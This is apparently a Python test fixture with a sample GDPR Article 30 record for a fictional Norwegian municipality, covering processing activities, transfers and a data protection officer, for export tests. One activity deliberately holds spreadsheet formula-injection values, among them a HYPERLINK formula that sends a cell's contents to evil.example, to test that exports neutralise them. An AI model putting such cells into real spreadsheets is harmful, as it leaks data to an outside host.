"""A sample Article 30 record for the export tests: Norwegian letters, a hostile cell, all parts."""

from __future__ import annotations

from datetime import date

from mps.privacy.exports import Activity, Article30Record, Party, Transfer

HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"Klikk")'

RECORD = Article30Record(
    controller=Party(
        "Eksempel kommune",
        contact="Rådhusgata 1, 0151 Oslo\npostmottak@eksempel.kommune.no",
        organisation_number="999888777",
    ),
    as_of=date(2026, 11, 29),
    dpo=Party("Åse Ødegård", contact="personvernombud@eksempel.kommune.no"),
    representative=None,
    activities=(
        Activity(
            name="Lønn og personaladministrasjon",
            reference="A-1",
            purposes="Utbetale lønn, føre fravær og følge opp ansatte",
            data_subjects=("ansatte", "tidligere ansatte"),
            data_categories=(
                "kontaktopplysninger",
                "fødselsnummer",
                "helseopplysninger (sykefravær)",
            ),
            recipients="Skatteetaten, NAV, pensjonskasse",
            transfers=(
                Transfer("Acme Cloud Ireland Ltd", "IE", "eea", via="Acme HR"),
                Transfer(
                    "Acme Support India Pvt Ltd",
                    "IN",
                    "scc",
                    safeguards="SCC modul 3 (2026-01-10); TIA mangler",
                    status="action",
                    via="Acme HR",
                ),
                Transfer("Acme Cloud, Inc.", "US", "none", status="blocked", via="Acme HR"),
            ),
            erasure_limits="Fem år etter avsluttet arbeidsforhold (bokføringsloven)",
            security_measures="Kryptering i ro og under overføring; tilgangsstyring med roller",
            legal_bases=("art. 6 nr. 1 bokstav c", "art. 6 nr. 1 bokstav e"),
            special_condition="art. 9 nr. 2 bokstav b; arbeidsmiljøloven",
            services=("Acme HR",),
        ),
        Activity(
            name="Postjournal og arkiv",
            purposes="Journalføring etter arkivloven",
            data_subjects=("innbyggere", "søkere"),
            data_categories=("navn", "adresse"),
            recipients="Allmennheten (innsyn)",
            transfers=(
                Transfer(
                    "Globex Mail LLC",
                    "US",
                    "dpf",
                    safeguards="DPF-sertifisering kontrollert 2026-11-01",
                    status="ok",
                ),
            ),
            erasure_limits="Bevares etter arkivforskriften",
            security_measures="Logging av innsyn",
        ),
        Activity(
            name=HOSTILE,
            purposes="+47 22 00 00 00",
            data_subjects=("-minus først", "@SUM(A1:A9)"),
            recipients="\tfane først",
        ),
        Activity(
            name="Drift av skoleportal for nabokommunen",
            kind="processor",
            processor_for="Nabo kommune, postmottak@nabo.kommune.no",
            purposes="Lagring og drift av elevdata",
            security_measures="Sikkerhetskopi i Norge",
        ),
    ),
)
